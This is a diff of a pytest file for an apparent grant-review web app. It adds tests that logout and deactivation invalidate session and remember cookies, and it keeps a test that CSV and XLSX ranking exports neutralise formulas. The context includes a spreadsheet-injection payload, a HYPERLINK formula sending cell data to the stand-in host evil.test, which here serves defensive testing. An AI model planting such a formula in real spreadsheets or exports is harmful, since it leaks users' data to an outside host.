@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 from grantflow.core.extensions import db
 from grantflow.core.safety import spreadsheet_cell
 from tests.conftest import login
+from tests.factories import PASSWORD
 from tests.test_ranking import scored
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'
@@ -35,8 +36,44 @@ def test_ranking_exports_carry_no_formulas(client, factory):
     body = client.get(f"/review/competitions/{competition.id}/ranking.csv").get_data().decode("utf-8-sig")
     row = list(csv.reader(io.StringIO(body)))[1]
     assert row[2] == "'@SUM(1+1)" and row[3] == "'" + HYPERLINK
-    sheet = load_workbook(io.BytesIO(client.get(f"/review/competitions/{competition.id}/ranking.xlsx").get_data())).active
+    sheet = load_workbook(
+        io.BytesIO(client.get(f"/review/competitions/{competition.id}/ranking.xlsx").get_data())
+    ).active
     values = list(sheet.values)[1]
     assert values[2] == "'@SUM(1+1)" and values[3] == "'" + HYPERLINK
     assert all(not (isinstance(v, str) and v.startswith("=")) for row in sheet.values for v in row)
     assert isinstance(values[7], (int, float))  # the requested amount stays a number
+
+
+# --- 2. logging out ends the session on the server --------------------------------------------
+def _browser(app, **cookies):
+    browser = app.test_client()
+    for name, value in cookies.items():
+        browser.set_cookie(name, value)
+    return browser
+
+
+def test_logout_ends_the_session_and_the_remember_cookie(client, app, factory):
+    user = factory.applicant()
+    db.session.commit()
+    client.post("/login", data={"email": user.email, "password": PASSWORD, "remember": "y"})
+    session_cookie, remember = client.get_cookie("session").value, client.get_cookie("remember_token").value
+    assert user.name in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
+    assert user.name in _browser(app, remember_token=remember).get("/").get_data(as_text=True)
+    client.post("/logout")
+    assert user.name not in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
+    assert user.name not in _browser(app, remember_token=remember).get("/").get_data(as_text=True)
+    login(client, user.email)  # and logging in again works
+    assert user.name in client.get("/").get_data(as_text=True)
+
+
+def test_deactivation_ends_the_sessions(client, app, factory):
+    user = factory.applicant()
+    db.session.commit()
+    login(client, user.email)
+    session_cookie = client.get_cookie("session").value
+    user.active = False
+    db.session.commit()
+    user.active = True  # even once active again, the old session stays ended
+    db.session.commit()
+    assert user.name not in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
